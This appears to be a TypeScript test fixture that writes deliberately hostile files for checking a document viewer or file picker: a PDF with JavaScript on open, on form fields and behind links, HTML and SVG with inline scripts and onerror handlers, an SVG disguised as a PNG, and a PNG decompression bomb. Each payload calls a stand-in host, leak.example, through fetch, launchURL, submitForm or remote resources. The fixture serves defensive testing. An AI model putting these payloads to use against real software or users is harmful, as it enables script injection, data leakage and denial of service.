/** Documents that try to run, to ask or to tell: each would show itself in `ran`, in a dialog, or at a stranger's host. */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';

/** Nobody of ours: whatever reaches for it stands in {@link Person.strangers}. */
export const STRANGER = 'leak.example';
const RUN = `globalThis.ran = true; fetch('https://${STRANGER}/ran')`;

/** Assembles objects, numbered from 1, into a PDF. The first is the catalogue. */
const pdfOf = (objects: string[]): string => {
  let out = '%PDF-1.7\n';
  const offsets = objects.map((object, i) => {
    const at = out.length;
    out += `${i + 1} 0 obj${object}endobj\n`;
    return at;
  });
  const table = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  return `${out}xref\n0 ${size}\n0000000000 65535 f \n${table}trailer<</Size ${size}/Root 1 0 R>>\nstartxref\n${out.length}\n%%EOF\n`;
};

const stream = (body: string, dictionary = ''): string =>
  `<</Length ${body.length}${dictionary}>>stream\n${body}\nendstream`;

/** Scripts on opening, by name, on the page, on a button and behind a link; a form that sends; a stream that lies elsewhere. */
const scriptedPdf = (text: string): string => {
  const script = `app.alert\\('ran'\\); app.launchURL\\('https://${STRANGER}/launch'\\); this.submitForm\\('https://${STRANGER}/form'\\); ${RUN.replace(/[()]/g, '\\$&')}`;
  const action = `<</S/JavaScript/JS(${script})>>`;
  return pdfOf([
    `<</Type/Catalog/Pages 2 0 R/OpenAction ${action}/Names<</JavaScript<</Names[(a) ${action}]>>>>/AcroForm<</Fields[6 0 R 7 0 R]/NeedAppearances true>>>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>/XObject<</X 9 0 R>>>>/Annots[6 0 R 7 0 R 8 0 R]/AA<</O ${action}>>>>`,
    stream(`1 0 0 rg 0 0 100 100 re f BT 0 g /F1 18 Tf 120 100 Td (${text}) Tj ET q /X Do Q`),
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    `<</Type/Annot/Subtype/Widget/FT/Btn/Ff 65536/T(b)/Rect[0 0 400 200]/A ${action}/AA<</E ${action}/D ${action}>>>>`,
    `<</Type/Annot/Subtype/Widget/FT/Tx/T(t)/V(typed)/Rect[10 150 200 180]/DA(/F1 12 Tf 0 g)/AA<</F ${action}/K ${action}/C ${action}>>>>`,
    `<</Type/Annot/Subtype/Link/Rect[0 0 400 200]/A<</S/URI/URI(https://${STRANGER}/link)>>>>`,
    stream(
      '',
      `/Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceRGB/BitsPerComponent 8/F<</FS/URL/F(https://${STRANGER}/stream)>>`,
    ),
  ]);
};

const html = (text: string): string =>
  `<!doctype html><title>${text}</title><script>${RUN}</script><img src="https://${STRANGER}/img.png" onerror="${RUN}"><iframe src="https://${STRANGER}/frame"></iframe><form id="app" name="location"><input name="cookie"></form><p>${text}</p>`;

const svg = (text: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${RUN}"><script>${RUN}</script><image xlink:href="https://${STRANGER}/svg.png" width="9" height="9"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${RUN}"/></body></foreignObject><text>${text}</text></svg>`;

/** 60,000 by 60,000 pixels in some bytes: a PNG's head and nothing behind it. */
const bomb = (): Buffer => {
  const out = Buffer.alloc(33);
  out.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], 0);
  out.writeUInt32BE(13, 8);
  out.write('IHDR', 12, 'latin1');
  out.writeUInt32BE(60_000, 16);
  out.writeUInt32BE(60_000, 20);
  out.set([8, 2], 24);
  return out;
};

type Hostile = Record<'pdf' | 'html' | 'svg' | 'disguised' | 'bomb', { name: string; path: string; bytes: Buffer }>;

/** @param folder where they are written @param text a word inside each, to be seen */
export const hostileFiles = (folder: string, text: string): Hostile => {
  const make = (name: string, body: string | Buffer) => {
    const path = join(folder, name);
    const bytes = Buffer.from(body as string);
    writeFileSync(path, bytes);
    return { name, path, bytes };
  };
  return {
    pdf: make('scripts.pdf', scriptedPdf(text)),
    html: make('page.html', html(text)),
    svg: make('drawing.svg', svg(text)),
    // named like a picture, so that the picker types it as one
    disguised: make('photo.png', svg(text)),
    bomb: make('bomb.png', bomb()),
  };
};
